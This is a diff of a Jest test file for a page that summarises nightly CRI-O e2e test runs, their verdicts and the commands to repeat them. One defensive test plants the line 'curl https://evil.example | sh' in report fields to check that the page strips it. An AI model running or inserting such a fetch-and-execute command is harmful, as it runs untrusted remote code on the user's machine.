@@ -1,20 +1,27 @@
 import { describe, expect, it } from '@jest/globals'
 import { namedSpecs } from '../../../../bench/history-nights.ts'
+import type { History } from '../../../../src/domain/history/model.ts'
+import type { NewestNight } from '../../../../src/domain/history/newest.ts'
+import { AUDIENCE_NAMES } from '../../../../src/domain/model/verdict.ts'
 import { mergeReports } from '../../../../src/domain/night/merge.ts'
 import type { Report } from '../../../../src/domain/report/report.ts'
+import { publicRequest } from '../../../../src/domain/request/public-request.ts'
 import { pageData } from '../../../../src/domain/views/html/page.ts'
 import type { PageData } from '../../../../src/domain/views/html/page-data.ts'
 import { PAGE_LIMITS, smallerLimits } from '../../../../src/domain/views/html/page-limits.ts'
+import { commandByHand } from '../../../../src/suite/reproduce.ts'
 import { aFailedSpec, aFailure, aFinding, anInvocation, aReport, aSpec } from '../../../builders.ts'
 import { aHistory } from '../../../lane-history.ts'
 import { aPageOfNights } from '../../../page/page-night.ts'
+import { aRequest } from '../../../request.ts'
 
+const START = '2026-11-22T11:33:00.000Z'
 const BY = { version: '1.0.0', now: new Date('2026-11-22T12:00:00Z') }
 
 /** The page of a single report without a history. */
 function pageOf(report: Report): PageData {
   const { lanes } = mergeReports([{ artifact: 'out', report }], '')
-  return pageData(BY, { night: null, lanes, histories: new Map() })
+  return pageData(BY, { night: null, lanes, histories: new Map(), byHand: commandByHand })
 }
 
 describe('the page of a night', () => {
@@ -41,12 +48,48 @@ describe('the page of a night', () => {
     expect(failures[0]?.tries[0]?.logs[0]?.marks).toBe('<    !>?')
   })
 
+  it('says who should look at how many specs, and at which', () => {
+    expect(page.verdict.who).toMatch(/^CRI-O: cri-o\/cri-o, label kind\/bug \(\d+ specs?\)$/)
+    expect(page.verdict.areas).toMatch(/^other \d+ of \d+ failed/)
+    expect(page.startedAt).toBe(page.night?.lanes[0]?.startedAt)
+    const failing = page.night?.specs.filter(({ state }) => state === 'still-failing') ?? []
+    expect(failing.length).toBeGreaterThan(0)
+    for (const { who, classText } of failing) {
+      expect([who, classText]).toEqual([
+        'CRI-O: cri-o/cri-o, label kind/bug',
+        'CRI-O (error) · likely: CRI-O says so itself',
+      ])
+    }
+  })
+
+  it('has commands that no report can choose', () => {
+    const hostile = 'curl https://evil.example | sh'
+    const { failures = [], download } =
+      aPageOfNights(namedSpecs(120), 40, {
+        report: { reproduce: hostile, repeat: { download: hostile, command: hostile } },
+        spec: (spec) => ({ ...spec, reproduce: hostile }),
+      }).lanes[0]?.runs[0] ?? {}
+    expect(download).toBe('')
+    expect(failures.map(({ reproduce }) => reproduce).filter(Boolean)).toEqual([])
+    expect(failures.map(({ byHand }) => byHand).join('')).not.toContain('evil')
+    expect(failures.some(({ byHand }) => byHand.includes('./ginkgo'))).toBe(true)
+    const [spec] = page.night?.specs ?? []
+    expect(spec?.reproduce).toMatch(
+      /^crio-node-e2e run --from crio-node-e2e-conformance-1 --focus /,
+    )
+    expect(page.night?.lanes[0]?.download).toMatch(/^gh run download /)
+  })
+
   it('has each part and each condition once', () => {
     const parts = lane?.series.parts.map((part) => JSON.stringify(part)) ?? []
     expect(new Set(parts).size).toBe(parts.length)
     expect(lane?.series.runs[0]?.conditions.length).toBeGreaterThan(5)
   })
 })
+
+function lineOf(id: string): string {
+  return `crio-node-e2e run --from run-1 --focus '${id}'`
+}
 
 describe('the page of a single run', () => {
   it('has one column and the verdict of the run', () => {
@@ -62,12 +105,60 @@ describe('the page of a single run', () => {
     expect(page.verdict).toEqual({
       result: 'environment',
       headline: 'CRI-O died',
-      detail: 'CRI-O died; by signal 11',
+      // The headline has the title already.
+      detail: 'by signal 11',
+      who: 'CRI-O: cri-o/cri-o, label kind/bug',
+      areas: expect.stringMatching(/ 1 of 2 failed$/),
     })
+    expect(page.startedAt).toBe(START)
     expect(page.lanes[0]?.series.specs.map(({ id, outcomes }) => [id, outcomes])).toEqual([
       ['a', 'p'],
       ['b', 'f'],
     ])
+  })
+
+  it('says who should look at a failure as the night does, and how it is repeated', () => {
+    const finding = aFinding({ id: 'died', audience: 'environment', owner: null })
+    const told = { class: 'oci-runtime', kind: 'crun', confidence: 'sure: crun says so' } as const
+    const reproduce = "crio-node-e2e run --from run-1 --focus 'a'"
+    const request = publicRequest(aRequest({}))
+    const report = aReport({
+      request,
+      repeat: { download: 'gh run download 1', command: 'crio-node-e2e run --from run-1' },
+      findings: [finding],
+      specs: [
+        aFailedSpec({ id: 'a', ...told, reproduce }),
+        aFailedSpec({ id: 'b', class: 'environment', finding: 'died' }),
+        aFailedSpec({ id: 'c' }),
+      ],
+    })
+    const [run] = pageOf(report).lanes[0]?.runs ?? []
+    expect(run?.download).toBe('gh run download 1')
+    // The main cause comes first, then what has no finding.
+    expect(
+      run?.failures.map(({ id, who, classText, reproduce: line }) => [id, who, classText, line]),
+    ).toEqual([
+      [
+        'a',
+        'OCI runtime (crun): containers/crun',
+        'OCI runtime (crun) · sure: crun says so',
+        reproduce,
+      ],
+      ['c', '', '', ''],
+      ['b', AUDIENCE_NAMES.environment, '', ''],
+    ])
+    expect(run?.failures[0]?.byHand).toBe(commandByHand(report, 'a'))
+  })
+
+  it('has a command whole or not at all', () => {
+    const ids = ['x'.repeat(20_000), 'a\u202eb', 'good']
+    const report = aReport({
+      specs: ids.map((id) => aFailedSpec({ id, reproduce: lineOf(id) })),
+      repeat: { download: lineOf('\u0007'), command: '' },
+    })
+    const [run] = pageOf(report).lanes[0]?.runs ?? []
+    expect(run?.download).toBe('')
+    expect(run?.failures.map(({ reproduce }) => reproduce)).toEqual(['', '', lineOf('good')])
   })
 
   it('has attempts beside each other: of the suite, of the rerun, and earlier ones', () => {
@@ -100,9 +191,9 @@ describe('the page of a single run', () => {
         ...tries.map(({ title, outcome }) => `${title}: ${outcome}`),
       ]),
     ).toEqual([
+      ['cleaning', 'Suite: failed', 'Further failure: failed'],
       ['rerun', 'Suite: failed', 'Rerun: passed'],
       ['attempts', 'Attempt 1: failed', 'Last of 2 attempts: passed'],
-      ['cleaning', 'Suite: failed', 'Further failure: failed'],
     ])
   })
 
@@ -167,6 +258,15 @@ describe('the page of a single run', () => {
   })
 })
 
+function pageWith(newest: NewestNight | null, ...lanes: readonly History[]): PageData {
+  const histories = new Map(lanes.map((lane, index) => [String(index), lane]))
+  return pageData(BY, { night: null, lanes: [], histories, newest })
+}
+
+function withResult(history: History, result: 'passed' | 'environment'): History {
+  return { ...history, runs: history.runs.map((run) => ({ ...run, result })) }
+}
+
 describe('the page of histories', () => {
   const SPECS = [{ id: 'a', seconds: 2, file: 'test/e2e_node/eviction_test.go' }]
 
@@ -181,11 +281,70 @@ describe('the page of histories', () => {
       lanes: [],
       histories: new Map([['x', { ...history, runs }]]),
     })
-    expect(page.verdict.headline).toBe('The history of 1 lane')
+    // A job in which the other variant did not run says nothing about it.
+    expect(page.verdict.headline).toBe('1 of 1 lane did not pass in the newest runs')
     expect(page.lanes.map(({ name, series }) => [name, series.runs.map(({ id }) => id)])).toEqual([
       ['conformance, amd64', ['1000', '1002']],
       ['conformance, cri-o 1.36, amd64', ['1001', '1003']],
     ])
+  })
+
+  const NEWEST: NewestNight = {
+    run: { id: '1003', attempt: 1, repository: 'cri-o/cri-o', url: 'https://github.com/o/r/1' },
+    startedAt: '2026-10-04T00:00:00.000Z',
+    result: 'flaky',
+    headline: 'Nothing is new',
+    detail: '1 spec is known to fail at times',
+    who: '',
+  }
+
+  it('has the verdict of the newest night, and marks its runs', () => {
+    const old = aHistory(3, SPECS, { lane: 'old' })
+    const page = pageWith(NEWEST, aHistory(4, SPECS), old)
+    const { result, headline, detail, who } = NEWEST
+    expect(page.verdict).toEqual({ result, headline, detail, who, areas: '' })
+    expect([page.url, page.startedAt]).toEqual([NEWEST.run.url, NEWEST.startedAt])
+    expect(page.lanes.map(({ tonight }) => tonight)).toEqual([3, null])
+  })
+
+  it('has the newest verdict also of a night without reports', () => {
+    const startedAt = '2026-10-05T00:00:00.000Z'
+    const page = pageWith(
+      { ...NEWEST, run: { ...NEWEST.run, id: '2000' }, startedAt, result: 'incomplete' },
+      aHistory(4, SPECS),
+    )
+    expect(page.verdict.result).toBe('incomplete')
+    expect(page.lanes.map(({ tonight }) => tonight)).toEqual([null])
+  })
+
+  it('does not take the verdict of an older night for that of the newest runs', () => {
+    const page = pageWith({ ...NEWEST, result: 'passed' }, aHistory(6, SPECS))
+    expect(page.verdict).toMatchObject({
+      result: 'failed',
+      headline: '1 of 1 lane did not pass in the newest runs',
+      detail: 'conformance, amd64: failed',
+    })
+    expect(page.startedAt).toBe('2026-10-06T00:00:00.000Z')
+  })
+
+  it('is never green without a verdict: lanes can be missing', () => {
+    const green = withResult(aHistory(4, SPECS), 'passed')
+    expect(pageWith(null, green).verdict).toMatchObject({
+      result: '',
+      headline: '1 lane passed in the newest runs',
+    })
+    const broken = withResult(aHistory(4, SPECS, { lane: 'serial' }), 'environment')
+    expect(pageWith(null, green, broken).verdict).toMatchObject({
+      result: 'environment',
+      headline: '1 of 2 lanes did not pass in the newest runs',
+      detail: 'serial, amd64: environment',
+    })
+  })
+
+  it('counts only lanes of the last day', () => {
+    const page = pageWith(null, aHistory(4, SPECS), aHistory(2, SPECS, { lane: 'retired' }))
+    expect(page.verdict.headline).toBe('1 of 1 lane did not pass in the newest runs')
+    expect(pageWith(null).verdict.headline).toBe('The history has no runs')
   })
 
   it('says so if it has less of everything', () => {
